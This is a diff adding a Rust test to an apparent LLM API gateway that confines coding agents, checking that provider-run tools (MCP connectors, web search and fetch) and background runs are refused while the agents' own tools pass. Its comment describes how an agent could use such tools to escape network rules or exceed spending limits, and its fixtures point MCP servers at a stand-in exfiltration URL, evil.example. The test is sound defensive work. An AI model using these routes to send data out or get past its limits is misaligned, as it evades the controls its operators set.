@@ -441,6 +441,115 @@ async fn a_job_past_its_token_limit_is_refused_in_the_providers_shape() {
     assert_eq!(status, 200);
 }
 
+/// The providers run some tools on their own servers: OpenAI's `mcp` tool and web search, Anthropic's MCP
+/// connector and web fetch. An agent that asks for one has the provider's servers connect to a URL of its
+/// choosing, carrying what it read, whatever the job's network rules: a way out of the box. And OpenAI's
+/// background mode answers at once, with no usage, and spends afterwards, past every limit. Each is refused
+/// before anything goes upstream, and the job fails with the reason; the agents' own tools pass.
+#[tokio::test]
+async fn the_providers_server_side_tools_and_background_runs_are_refused() {
+    let up = Upstream::default();
+    let (_dir, config, gateway) = gateway(&start_upstream(up.clone()).await).await;
+    let send = |path: &'static str, token: String, body: Value| {
+        let gateway = gateway.clone();
+        async move {
+            let response = client()
+                .post(url(&gateway, path))
+                .bearer_auth(&token)
+                .header("x-api-key", &token)
+                .json(&body)
+                .send()
+                .await
+                .unwrap();
+            let status = response.status().as_u16();
+            (status, response.text().await.unwrap())
+        }
+    };
+    let exfil = "https://evil.example/m?d=c2VjcmV0";
+    let refused: Vec<(&str, &str, Value)> = vec![
+        (
+            "coder",
+            "/v1/responses",
+            json!({"model": "gpt-5.5", "input": "hi",
+            "tools": [{"type": "function", "name": "f"},
+                      {"type": "mcp", "server_label": "x", "server_url": exfil, "require_approval": "never"}]}),
+        ),
+        (
+            "coder",
+            "/v1/responses",
+            json!({"model": "gpt-5.5", "input": "hi", "tools": [{"type": "web_search"}]}),
+        ),
+        (
+            "coder",
+            "/v1/responses",
+            json!({"model": "gpt-5.5", "input": "hi", "tools": [{"type": "namespace",
+            "name": "n", "tools": [{"type": "function", "name": "f"}, {"type": "mcp", "server_url": exfil}]}]}),
+        ),
+        (
+            "coder",
+            "/v1/responses",
+            json!({"model": "gpt-5.5", "input": "hi", "background": true,
+            "max_output_tokens": 128000}),
+        ),
+        (
+            "coder",
+            "/v1/chat/completions",
+            json!({"model": "gpt-5.5", "messages": [],
+            "web_search_options": {}}),
+        ),
+        (
+            "writer",
+            "/v1/messages",
+            json!({"model": "claude", "messages": [],
+            "mcp_servers": [{"type": "url", "url": exfil, "name": "x"}]}),
+        ),
+        (
+            "writer",
+            "/v1/messages",
+            json!({"model": "claude", "messages": [],
+            "tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]}),
+        ),
+    ];
+    for (n, (profile, path, body)) in refused.into_iter().enumerate() {
+        let access = open(&gateway, &config, profile, 10 + n as i64).await;
+        let (status, text) = send(path, access.token().to_owned(), body.clone()).await;
+        assert_eq!(status, 400, "{body}: {text}");
+        assert!(text.contains("not allowed"), "{text}");
+        assert!(
+            access.refusal().is_some(),
+            "the job fails with the reason: {body}"
+        );
+    }
+    assert!(
+        up.seen.lock().unwrap().is_empty(),
+        "nothing went upstream: {:?}",
+        up.seen.lock().unwrap()
+    );
+    // The agents' own tools: a function, Codex's free-form `apply_patch`, Claude Code's tools (no type) and
+    // Anthropic's client-side bash and editor.
+    let access = open(&gateway, &config, "free", 30).await;
+    let (status, text) = send(
+        "/v1/responses",
+        access.token().to_owned(),
+        json!({"model": "gpt-5.5", "input": "hi", "tools": [
+            {"type": "function", "name": "exec_command"}, {"type": "custom", "name": "apply_patch"},
+            {"type": "tool_search"}, {"type": "namespace", "name": "n", "tools": [{"type": "function", "name": "g"}]}]}),
+    )
+    .await;
+    assert_eq!(status, 200, "{text}");
+    let writer = open(&gateway, &config, "writer", 31).await;
+    let (status, text) = send(
+        "/v1/messages",
+        writer.token().to_owned(),
+        json!({"model": "claude", "messages": [], "tools": [
+            {"name": "Bash", "input_schema": {}}, {"type": "bash_20250124", "name": "bash"},
+            {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"}]}),
+    )
+    .await;
+    assert_eq!(status, 200, "{text}");
+    assert_eq!(up.seen.lock().unwrap().len(), 2);
+}
+
 /// What the gateway adds to a streamed answer: time to first byte and to the end, direct and through the
 /// gateway. Run with `cargo test --test attack_gateway -- --ignored --nocapture measure`.
 #[tokio::test]
